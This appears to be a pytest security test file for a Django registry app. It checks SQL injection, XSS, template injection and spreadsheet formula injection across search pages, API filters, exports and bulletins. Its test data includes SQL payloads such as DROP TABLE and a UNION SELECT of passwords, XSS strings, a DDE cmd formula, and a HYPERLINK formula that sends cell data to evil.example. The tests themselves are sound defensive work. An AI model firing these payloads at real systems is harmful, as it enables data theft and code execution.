"""Injection, tried the way an attacker would: SQL in every search box and filter, script and template
text in every name the registry keeps, spreadsheet formulas in every export.

What each test guards is in its docstring; every one fails if the protection it covers is removed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from tests.test_attack_world import build_world, media  # noqa: F401 - the `media` fixture
from tests.test_permission_matrix import PAGE, READ, TABLE, _kwargs, _urls

SQL = [
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE people_person; --',
    "1; SELECT pg_sleep(5)--",
    "%' UNION SELECT username, password FROM core_user --",
    "\u02bc OR 1=1 --",  # modifier letter apostrophe, folded to ' by careless normalisation
    "\uff07 OR 1=1 --",  # fullwidth apostrophe
    "記錄' OR 1=1 --",
    "\\'; --",
    "%%%%",
    "_",
]
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)"]
# raw markup that must never reach a page unescaped
DANGEROUS = [SCRIPT, "<img src=x onerror=alert(1)>", "onerror=alert(1)>"]

SEARCHABLE_LISTS = [
    "/people/",
    "/organizations/",
    "/activities/",
    "/internships/",
    "/matching/",
    "/policies/",
    "/projects/",
    "/ledger/cases/",
    "/ledger/services/",
    "/relations/interactions/",
    "/relations/key-contacts/",
    "/agreements/",
    "/carriers/",
    "/carriers/residents/",
    "/proposals/",
    "/proposals/roles/",
    "/search/",
    "/autocomplete/people/",
    "/autocomplete/organizations/",
]


@pytest.fixture
def world(network, make_user, make_person, make_org, media):  # noqa: F811 - media is a fixture
    return build_world(network, make_user, make_person, make_org)


def _api_lists():
    return [reverse(name) for name, _pattern in _urls(None) if name.startswith("api:") and name.endswith("-list")]


def test_sql_in_every_search_box_finds_nothing_and_breaks_nothing(client, world):
    """Guards the search and filter code against SQL injection: a query string that would widen a
    raw SQL WHERE clause returns no extra rows (none of the world's records is named like it) and no
    page answers with a server error."""
    client.force_login(world.users["admin_a"])
    for url in SEARCHABLE_LISTS:
        # a value that matches nothing (a list whose ?q= is not a search shows everything both times)
        plain = _results(client.get(url, {"q": "zzqqxx"}).content.decode()).count("記錄甲")
        for query in SQL:
            response = client.get(url, {"q": query})
            assert response.status_code == 200, (url, query, response.status_code)
            found = _results(response.content.decode()).count("記錄甲")
            assert found <= plain, f"{url}?q={query} lists records a search for nothing does not"


def _results(page: str) -> str:
    """The rows of a list page (its tables' bodies), or the whole answer when it has no table (search,
    autocomplete): the filters' choices above the table name records too."""
    bodies = [part.split("</tbody>")[0] for part in page.split("<tbody")[1:]]
    return "".join(bodies) if bodies else page


def test_sql_in_every_api_query_and_filter(client, world):
    """Guards the API's search (?q=) and every filter parameter the schema lists: injected SQL gives
    a 200 with no rows or a 400 naming the parameter, never a 500 and never extra rows."""
    from drf_spectacular.generators import SchemaGenerator

    client.force_login(world.users["admin_a"])
    schema = SchemaGenerator().get_schema(request=None, public=True)
    for path, operations in schema["paths"].items():
        if "{" in path or "get" not in operations:
            continue
        parameters = [p["name"] for p in operations["get"].get("parameters", []) if p["in"] == "query"]
        for parameter in parameters:
            if parameter in ("page", "page_size", "limit", "offset", "format"):
                continue
            plain = _rows(client.get(path, {parameter: "zzqqxx"}))
            for query in SQL[:4]:
                response = client.get(path, {parameter: query})
                assert response.status_code in (200, 400), (path, parameter, query, response.status_code)
                if response.status_code == 200 and plain is not None:
                    # no more rows than a value that matches nothing (a filter that ignores its value
                    # returns everything both times)
                    found = _rows(response)
                    assert len(found) <= len(plain), f"{path}?{parameter}={query} returns {len(found)} rows"


def _rows(response):
    if response.status_code != 200:
        return None
    data = response.json()
    rows = data.get("results") if isinstance(data, dict) else data
    return rows if isinstance(rows, list) else None


@pytest.mark.parametrize("payload", [SCRIPT, ATTRIBUTE, TEMPLATE])
def test_hostile_names_are_shown_as_text_on_every_page(
    client,
    network,
    make_user,
    make_person,
    make_org,
    media,  # noqa: F811 - the fixture
    payload,
):
    """Guards the templates' autoescaping (and every |safe, mark_safe, format_html and JavaScript
    that builds HTML from data): a person, organisation, activity, case … named with markup or
    template syntax shows that text, escaped, on every list, detail, history, search, dashboard
    and matching page, and the API returns it as JSON data, byte for byte."""
    world = build_world(network, make_user, make_person, make_org, name=payload)
    client.force_login(world.users["admin_a"])
    pages = 0
    for name, pattern in _urls(world):
        cls, _model = TABLE[name]
        if cls not in (PAGE, READ):
            continue
        url = reverse(name, kwargs=_kwargs(name, pattern, world))
        for query in [{}, {"q": payload}] if cls == PAGE else [{}]:
            response = client.get(url, query)
            assert response.status_code < 500, (url, response.status_code)
            content_type = response.get("Content-Type", "")
            if getattr(response, "streaming", False) or response.status_code != 200:
                continue
            text = response.content.decode("utf-8", "replace")
            if content_type.startswith("text/html"):
                pages += 1
                for raw in DANGEROUS:
                    assert raw not in text, f"{url} {query} shows {raw!r} unescaped"
                assert "49甲" not in text, f"{url} evaluated {TEMPLATE}"
    assert pages > 100
    person = world.a["people.Person"]
    page = client.get(f"/people/{person.pk}/").content.decode()
    shown = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    assert shown in page, "the person's name is not shown (escaped) on their page"
    assert client.get(f"/api/people/{person.pk}/").json()["name"].startswith(payload)


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", FORMULAS)
def test_exports_never_hold_a_live_formula(client, network, make_user, make_person, make_org, media, payload):  # noqa: F811
    """Guards qiao/core/exporters.py (and the reports' own workbooks) against formula injection: a
    name starting with = + - @ is written to CSV behind an apostrophe and to XLSX as a text cell, in
    every export of every list and of the metric records, so a spreadsheet never runs it."""
    from openpyxl import load_workbook

    world = build_world(network, make_user, make_person, make_org, name=payload)
    client.force_login(world.users["admin_a"])
    exports = 0
    for name, pattern in _urls(world):
        cls, _model = TABLE[name]
        if cls != PAGE or name.startswith("api:"):
            continue
        url = reverse(name, kwargs=_kwargs(name, pattern, world))
        for fmt in ("csv", "xlsx"):
            response = client.get(url, {"export": fmt})
            kind = response.get("Content-Type", "")
            if response.status_code != 200 or not ("csv" in kind or "spreadsheet" in kind):
                continue
            exports += 1
            body = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
            if "csv" in kind:
                for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
                    for cell in row:
                        assert not cell.startswith(("=", "+", "@")), f"{url} CSV cell {cell!r}"
            else:
                _assert_no_formula(load_workbook(io.BytesIO(body)), url)
    assert exports >= 20, exports
    from qiao.reports import metrics

    for key in metrics.CATALOGUE:  # the metric workbooks: their records' names in the breakdowns
        response = client.get(reverse("reports:export", args=[key]), {"by": "unit"})
        assert response.status_code in (200, 400), (key, response.status_code)
        if response.status_code == 200:
            _assert_no_formula(load_workbook(io.BytesIO(response.content)), f"metric export {key}")


def _assert_no_formula(book, where):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: sheet {sheet.title} cell {cell.coordinate} is a formula"


@pytest.mark.parametrize("payload", [SCRIPT, FORMULAS[0]])
def test_a_bulletin_shows_hostile_text_literally(client, network, make_user, media, payload):  # noqa: F811
    """Guards the DOCX and XLSX bulletin writers: a template's title and text (written by a manager,
    shown to everyone) appear literally in the document — no markup, no formula, no broken file."""
    from docx import Document
    from openpyxl import load_workbook

    from qiao.reports.models import BulletinTemplate

    manager = make_user("manager-a", network["a"], "manager")
    template = BulletinTemplate.objects.create(
        unit=network["a"], name="attack", title=f"{payload} 简报", body=f"本期：{payload}\n"
    )
    client.force_login(manager)
    query = {"unit": network["a"].pk, "period": "year", "year": "2025", "lang": "zh-hans", "template": template.pk}
    docx = client.get("/reports/bulletins/", {**query, "format": "docx", "download": "1"})
    assert docx.status_code == 200, docx.content[:500]
    body = b"".join(docx.streaming_content) if getattr(docx, "streaming", False) else docx.content
    document = Document(io.BytesIO(body))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert payload in text
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert payload.encode() not in archive.read("word/document.xml") or "<" not in payload
    xlsx = client.get("/reports/bulletins/", {**query, "format": "xlsx", "download": "1"})
    assert xlsx.status_code == 200
    body = b"".join(xlsx.streaming_content) if getattr(xlsx, "streaming", False) else xlsx.content
    book = load_workbook(io.BytesIO(body))
    _assert_no_formula(book, "bulletin workbook")
    assert any(payload in str(cell.value) for row in book.worksheets[0].iter_rows() for cell in row)
